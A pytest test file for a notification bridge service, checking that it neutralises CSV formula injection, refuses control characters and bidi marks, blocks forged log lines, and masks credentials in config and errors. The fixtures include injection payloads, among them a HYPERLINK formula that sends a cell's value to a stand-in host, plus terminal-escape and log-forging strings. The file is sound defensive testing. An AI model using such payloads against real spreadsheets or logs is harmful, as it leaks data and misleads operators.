"""Inputs meant to attack what reads the bridge's output: spreadsheets opening its CSV exports, operators
reading its logs. (Issue 10's first protections; each test failed before its fix.)"""
from __future__ import annotations

import csv
import io
import logging

import pytest
from sqlalchemy import insert
from sqlalchemy.exc import IntegrityError

from bridge import logs
from bridge.db import utcnow
from bridge.registry.models import Subscription
from bridge.settings import ConfigurationError, Settings
from bridge.registry.importer import import_subscriptions
from bridge.spreadsheet import safe_cell
from support.factories import channel_record, event_item

pytestmark = pytest.mark.hostile

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"open")'


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA), ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("+15551234567", "+15551234567"), ("-18000", "-18000"), ("1.5", "1.5"),
    ("user-1", "user-1"), ("", ""), (None, None), (True, True), (3, 3),
])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_audience_export_neutralises_formulas(client, tenant, runtime):
    client.post(f"/v1/apps/{tenant.app_id}/subscriptions", headers=tenant.auth, json=[
        {"subscription_id": "=1+1", "type": "Email", "identifier": "=hyperlink(\"x\")@x.co", "external_id": FORMULA,
         "notification_types": 1},
        {"subscription_id": "s2", "type": "SMS", "identifier": "+15551234567", "external_id": FORMULA,
         "notification_types": 1}])
    client.post(f"/v1/apps/{tenant.app_id}/amplitude/cohorts", headers=tenant.cohort_auth, json={
        "cohort_id": "c1", "cohort_name": "C", "in_cohort": True, "computed_time": "1763856000",
        "message_id": "m1", "users": [{"user_id": FORMULA}]})
    runtime.runner.run_pending()
    response = client.get(f"/v1/apps/{tenant.app_id}/cohorts/c1/devices?format=csv", headers=tenant.auth)
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["subscription_id"], r["external_id"], r["identifier"]) for r in rows] == [
        ("'=1+1", "'" + FORMULA, "'=hyperlink(\"x\")@x.co"), ("s2", "'" + FORMULA, "+15551234567")]
    json_page = client.get(f"/v1/apps/{tenant.app_id}/cohorts/c1/devices", headers=tenant.auth).json
    assert json_page["items"][0]["external_id"] == FORMULA  # JSON carries the value as it is


def test_the_import_errors_file_neutralises_formulas(runtime, tenant, tmp_path):
    path = tmp_path / "export.csv"
    path.write_text("id,identifier,device_type,external_user_id\n"
                    f'"{FORMULA.replace(chr(34), chr(34) * 2)}",tok,99,@evil\n')
    errors = io.StringIO()
    with runtime.session() as session:
        summary = import_subscriptions(session, tenant.app_id, path, errors_to=errors)
    assert summary.rejected == 1
    rows = list(csv.reader(io.StringIO(errors.getvalue())))
    assert rows[1][2:] == ["'" + FORMULA, "tok", "99", "'@evil"]


@pytest.mark.parametrize(("log_format", "line"), [
    ("text", 'level=WARNING logger=bridge.test_hostile msg="cohort c1\\\\x0a2026-11-29 INFO bridge.auth [req=admin] '
             'token OK\\\\x1b[2J\\\\u202e\\\\x85 \\"req=admin\\" failed"'),
    ("json", '"level": "WARNING", "logger": "bridge.test_hostile", "msg": "cohort c1\\\\x0a2026-11-29 INFO bridge.auth '
             '[req=admin] token OK\\\\x1b[2J\\\\u202e\\\\x85 \\"req=admin\\" failed"}'),
])
def test_a_value_cannot_forge_a_log_line_or_rewrite_the_terminal(log_format, line):
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logs.LineFormatter(log_format))
    logger = logging.getLogger("bridge.test_hostile")
    logger.addHandler(handler)
    try:
        logger.warning("cohort %s failed", 'c1\n2026-11-29 INFO bridge.auth [req=admin] token OK\x1b[2J\u202e\x85 "req=admin"')
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert written.count("\n") == 1 and written.endswith(line + "\n"), written


@pytest.mark.parametrize("bad", ["u1\n2026-11-29 INFO forged", "u1\x1b[2J", "u1\u202egnp.exe", "u1\x85x"])
def test_ids_with_control_characters_or_bidi_marks_are_refused_at_every_door(client, tenant, runtime, tmp_path, bad):
    message = "Must not contain control characters or bidirectional marks."
    good = event_item("ok", "message.push.clicked", "s", "u", message={"id": "m"})
    items = []
    for field in ("id", "subscription_id", "external_id"):
        items.append({**good, "event": {**good["event"], "id": f"e-{field}", field: bad}})
    items.append({**good, "message": {"id": bad}})
    response = client.post(f"/v1/apps/{tenant.app_id}/events", json=[good, *items], headers=tenant.auth)
    assert response.json["accepted"] == 1
    assert {r["index"]: r["errors"] for r in response.json["rejected"]} == {
        1: {"event.id": message}, 2: {"event.subscription_id": message}, 3: {"event.external_id": message},
        4: {"message.id": message}}

    response = client.post(f"/v1/apps/{tenant.app_id}/subscriptions", headers=tenant.auth, json=[
        channel_record(bad), channel_record("a", external_id=bad), channel_record("b", identifier=bad), channel_record("c")])
    assert response.json["added"] == 1
    assert [sorted(r["errors"]) for r in response.json["rejected"]] == [["subscription_id"], ["external_id"],
                                                                        ["identifier"]]

    path = tmp_path / "export.csv"
    with path.open("w", newline="") as f:
        csv.writer(f).writerows([["id", "identifier", "device_type", "external_user_id"],
                                 [bad, "tok", "0", "u"], ["s2", bad, "0", "u"], ["s3", "tok", "0", bad], ["s4", "t", "0", "u"]])
    with runtime.session() as session:
        summary = import_subscriptions(session, tenant.app_id, path)
        session.commit()
    assert (summary.added, summary.rejected) == (1, 3)

    response = client.post(f"/v1/apps/{tenant.app_id}/amplitude/cohorts", headers=tenant.cohort_auth, json={
        "cohort_id": "c1", "cohort_name": "C", "in_cohort": True, "computed_time": "1763856000", "message_id": "m1",
        "users": [{"user_id": "u2"}, {"user_id": bad}]})
    assert (response.status_code, response.json["unusable_users"]) == (200, 1)
    refused = client.post(f"/v1/apps/{tenant.app_id}/amplitude/cohorts", headers=tenant.cohort_auth, json={
        "cohort_id": bad, "cohort_name": "C", "in_cohort": True, "computed_time": "1763856000", "message_id": "m2",
        "users": [{"user_id": "u2"}]})
    assert (refused.status_code, refused.json["details"]) == (400, {"cohort_id": message})


def test_every_credential_in_a_url_is_masked_in_config_and_errors():
    settings = Settings.from_env({
        "DATABASE_URL": "postgres://bridge:pw1@db.example:5432/bridge?password=pw2&sslmode=require&sslpassword=pw3",
        "REDIS_URL": "redis://:pw4@cache.example:6379/0", "SECRET_KEY": "test-secret-key-0123456789abcdef0123456789"})
    shown = str(settings.redacted())
    assert not any(secret in shown for secret in ("pw1", "pw2", "pw3", "pw4"))
    assert "sslmode=require" in shown and "password=***" in shown
    with pytest.raises(ConfigurationError) as refused:
        Settings.from_env({"AMPLITUDE_BASE_URL": "ftp://user:pw5@amplitude.example"})
    assert "pw5" not in str(refused.value) and "ftp://user:***@amplitude.example" in str(refused.value)


def test_database_errors_do_not_carry_the_values_of_their_parameters(runtime, tenant):
    with runtime.session() as session, pytest.raises(IntegrityError) as failed:
        session.execute(insert(Subscription.__table__), [
            {"app_id": tenant.app_id, "subscription_id": "s1", "channel": "push", "type": "iOSPush",
             "external_id": "private-user-4711", "invalid_identifier": False, "created_at": utcnow(),
             "updated_at": utcnow()}] * 2)
    assert "private-user-4711" not in str(failed.value)
    assert "hidden" in str(failed.value)
